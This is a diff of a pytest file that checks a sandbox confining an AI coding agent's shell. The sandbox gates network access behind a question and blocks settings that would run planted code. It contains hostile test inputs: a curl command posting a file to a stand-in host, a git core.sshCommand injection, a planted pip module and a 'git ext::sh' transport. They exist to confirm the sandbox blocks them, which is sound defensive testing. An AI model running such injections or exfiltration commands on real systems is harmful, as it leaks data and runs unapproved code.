@@ -1,9 +1,14 @@
 """The shell of an agent, through the installed launcher: what its texts can change, by the mode."""
 
+import json
 import os
 import shlex
 import socket
 import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 
 import pytest
@@ -11,12 +16,14 @@ import pytest
 from interlock.agents.hosts.claude_code import HOST
 from interlock.agents.hosts.claude_code_shell import (
     CALLER_VARIABLE,
+    CLIENT_VARIABLE,
     SESSION_VARIABLE,
+    SHELL_VARIABLE,
     WORKTREE_VARIABLE,
+    shell_script,
 )
 from interlock.app.context import open_app
-from interlock.app.gate import overrides
-from interlock.app.gate.confined_commands import reach_of
+from interlock.app.gate import confined_commands, overrides
 from interlock.app.gate.opt_in import opt_in
 from interlock.app.hosts import install
 from interlock.app.hosts.program import find_program
@@ -66,6 +73,7 @@ class Shell:
     def run(
         self, command: str, conversation: str = "host-1", **variables: str
     ) -> subprocess.CompletedProcess[str]:
+        self.directory_file.unlink(missing_ok=True)
         return subprocess.run(
             [self.home / "launch-bash", "-c", text_of(command, str(self.directory_file))],
             cwd=self.project,
@@ -81,6 +89,36 @@ class Shell:
             text=True,
             check=False,
         )
+
+    def ask(self, command: str, **more: object) -> tuple[str, str]:
+        """What the installed hook answers before the command, and the rule."""
+        payload = {
+            "session_id": "host-1",
+            "cwd": str(self.project),
+            "tool_name": "Bash",
+            "tool_input": {"command": command},
+            **more,
+        }
+        variables = {
+            SHELL_VARIABLE: shell_script(str(self.home), "bash"),
+            CLIENT_VARIABLE: str(os.getpid()),
+            CALLER_VARIABLE: "claude-code_2-1-325_harness",
+            HOST.attended_variable: "1",
+        }
+        os.utime(variables[SHELL_VARIABLE], (0, 0))  # before the client began
+        done = subprocess.run(
+            [self.home / "launch", "hook", "claude-code", "pre-tool"],
+            input=json.dumps(payload),
+            env={"PATH": os.environ["PATH"], **variables},
+            capture_output=True,
+            text=True,
+            check=True,
+        )
+        if not done.stdout:
+            return "allow", ""
+        answer = json.loads(done.stdout)["hookSpecificOutput"]
+        rule = answer["permissionDecisionReason"].rpartition("(")[2].partition(",")[0]
+        return answer["permissionDecision"], rule
 
 
 @pytest.fixture
@@ -136,7 +174,7 @@ def test_nothing_is_confined_where_no_gate_is(shell: Shell) -> None:
         ("interlock session end", "inside"),
         ("interlock session pause --session ses_2", "inside"),
         ("interlock session list --json", "outside"),
-        ("git ls-remote origin", "network"),
+        ("git ls-remote origin", "inside"),
         ("git ls-remote origin > a", "inside"),
         ("git ls-remote origin; touch a", "inside"),
         ("interlock session export ses_1 -o a", "inside"),
@@ -151,17 +189,73 @@ def test_nothing_is_confined_where_no_gate_is(shell: Shell) -> None:
         ("cat a", "inside"),
     ],
 )
-def test_only_what_the_kernel_need_not_hold_reach_of(command: str, *, reach: bool) -> None:
-    assert reach_of(text_of(command)) == reach
+def test_how_far_a_command_reaches_that_nobody_has_agreed_to(
+    home: Path, command: str, *, reach: str
+) -> None:
+    assert confined_commands.reach_of(text_of(command), home, "claude-code", "a") == reach
 
 
 @pytest.mark.parametrize("text", ["", "eval", "git ls-remote origin", "eval 'git ls-remote", "'"])
-def test_a_text_that_is_not_the_clients_runs_inside(text: str) -> None:
-    assert reach_of(text) == "inside"
+def test_a_text_that_is_not_the_clients_runs_inside(home: Path, text: str) -> None:
+    assert confined_commands.reach_of(text, home, "claude-code", "a") == "inside"
+
+
+class Upstream(BaseHTTPRequestHandler):
+    """The proxy of the user's machine. It answers what it is asked for."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(f"seen {self.path}\n".encode())
+
+    def log_message(self, *_: object) -> None:  # pyright: ignore[reportIncompatibleMethodOverride]
+        pass
+
+
+@pytest.fixture
+def upstream() -> Iterator[str]:
+    with HTTPServer(("127.0.0.1", 0), Upstream) as server:
+        threading.Thread(target=server.serve_forever).start()
+        yield f"http://127.0.0.1:{server.server_port}"
+        server.shutdown()
 
 
 @needs_sandbox
-def test_what_reads_a_remote_has_a_network_and_sees_nothing_that_commands_have_written(
+def test_a_remote_reader_reaches_public_hosts_after_one_question(
+    shell: Shell, upstream: str
+) -> None:
+    shell.begin("planning")
+    curl = "curl -s http://unknown.invalid/a"
+
+    assert "there was no network" in shell.run(curl, https_proxy=upstream).stderr, "nobody agreed"
+    assert shell.ask(curl) == ("ask", "network.asked")
+    assert shell.run(curl, https_proxy=upstream).stdout == "seen http://unknown.invalid/a\n"
+    assert shell.directory_file.read_text() == f"{shell.project}\n"
+    other = "curl -s http://unknown.invalid/b | cat"
+    assert shell.ask(other) == ("allow", "")
+    assert shell.run(other, https_proxy=upstream).stdout == "seen http://unknown.invalid/b\n"
+    assert shell.ask("wget -q -O- http://unknown.invalid") == ("ask", "network.asked"), "another"
+    assert "no network" in shell.run(curl, "host-2", https_proxy=upstream).stderr
+    assert shell.ask(curl, session_id="host-2") == ("ask", "network.asked"), "another conversation"
+    assert shell.ask("curl -d @a http://unknown.invalid") == ("allow", ""), "it has no network"
+    posted = shell.run("curl -s -d @a http://unknown.invalid", https_proxy=upstream)
+    assert "no network" in posted.stderr
+
+
+@needs_sandbox
+def test_the_user_can_list_what_needs_no_question(shell: Shell, upstream: str) -> None:
+    shell.begin("planning")
+    (shell.home / "config.toml").write_text('[gate]\nnetwork_commands = ["curl", "docker ps"]\n')
+    curl = "curl -s http://unknown.invalid/a"
+
+    assert [shell.ask(command)[0] for command in (curl, "docker ps -a", "docker rm a")] == [
+        *("allow", "allow", "ask")
+    ]
+    assert shell.run(curl, https_proxy=upstream).stdout.startswith("seen")
+
+
+@needs_sandbox
+def test_a_remote_reader_reaches_nothing_else_and_takes_no_code_from_a_directory(
     shell: Shell,
 ) -> None:
     """Settings that were written inside (of git, say) could have it run anything."""
@@ -169,20 +263,57 @@ def test_what_reads_a_remote_has_a_network_and_sees_nothing_that_commands_have_w
     (shell.home / "key").write_text("hidden")
     written = shell.run("echo seen > $TMPDIR/x; echo $TMPDIR").stdout.strip()
     assert shell.run(f"cat {written}/x").stdout == "seen\n"
+    canary = shell.project.parent / "canary"
+    (shell.project / "pip").mkdir()
+    (shell.project / "pip" / "__main__.py").write_text(f"open({str(canary)!r}, 'w')\nprint('ran')")
+    (shell.project / ".npmrc").write_text(f"git={shell.project}/program\n")
+    for settings in ("init -q", f"config core.sshCommand 'touch {canary}; echo ran'"):
+        subprocess.run(f"git {settings}", shell=True, cwd=shell.project, check=True)
+    remote = ("git", "remote", "add", "origin", "ssh://unknown.invalid/a")
+    subprocess.run(remote, cwd=shell.project, check=True)
 
     with socket.create_server(("127.0.0.1", 0)) as server:
-        server.settimeout(20)
-        port = server.getsockname()[1]
-        for command in (f"cat {written}/x", f"cd {written} && cat x", f"cat {shell.home}/key"):
-            refused = shell.run(f"getent passwd root; {command}")
-            assert refused.stdout.startswith("root:")
-            assert "Permission denied" in refused.stderr
-        shell.run(f"curl -s -m 1 http://127.0.0.1:{port}/")
-        server.accept()[0].close()
-        server.settimeout(0.2)
-        shell.run(f"curl -s -m 1 -o $TMPDIR/a http://127.0.0.1:{port}/")
+        address = f"127.0.0.1:{server.getsockname()[1]}"
+        for command, seen in (
+            (f"curl -s http://{address}/; cat {written}/x", "Permission denied"),
+            (f"curl -s http://{address}/; cat {shell.home}/key", "Permission denied"),
+            (f"curl -s http://{address}/ && pwd", "/empty"),
+            (f"curl -s https://{address}/", "was not reached"),
+            ("python3 -m pip index versions a", "ERROR"),
+            ("git ls-remote origin", "cannot be reached"),
+            ("git ls-remote ext::sh", "not allowed"),
+            (f"git ls-remote {shell.project}", "not allowed"),
+            ("npm view git+ssh://unknown.invalid/a.git", "npm"),
+        ):
+            confined_commands.record_question(shell.home, "claude-code", "host-1", command)
+            done = shell.run(command, PIP_RETRIES="0")
+            assert seen in done.stdout + done.stderr, (command, done)
+            assert "ran\n" not in done.stdout + done.stderr, command
+        server.settimeout(0.1)
         with pytest.raises(TimeoutError):
             server.accept()
+    assert not canary.exists()
+
+
+@needs_sandbox
+def test_a_client_of_a_daemon_is_asked_about_each_time(shell: Shell, tmp_path: Path) -> None:
+    shell.begin("planning")
+    docker = tmp_path / "bin" / "docker"
+    docker.parent.mkdir()
+    connect = "import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])"
+    docker.write_text(f"#!/bin/sh\nexec {sys.executable} -c '{connect}' \"$@\" && echo reached\n")
+    docker.chmod(0o755)
+    path = f"{docker.parent}:{os.environ['PATH']}"
+
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(tmp_path / "daemon"))
+        server.listen()
+        command = f"docker {tmp_path}/daemon"
+        for _ in range(2):
+            assert "PermissionError" in shell.run(command, PATH=path).stderr
+            assert shell.ask(command) == ("ask", "network.asked")
+            done = shell.run(command, PATH=path)
+            assert done.returncode == 0, done.stderr
 
 
 @needs_sandbox
@@ -201,7 +332,6 @@ def test_where_nobody_attends_a_command_is_confined_to_the_worktree_in_every_mod
     secrets = {"ANTHROPIC_API_KEY": "sk", "INTERLOCK_SECRET": "s", "CLAUDE_CODE_OAUTH_TOKEN": "t"}
 
     def run(command: str) -> subprocess.CompletedProcess[str]:
-        shell.directory_file.unlink(missing_ok=True)
         return shell.run(command, **{WORKTREE_VARIABLE: str(shell.project)}, **secrets)
 
     assert (run("echo x > made").returncode == 0) == writes
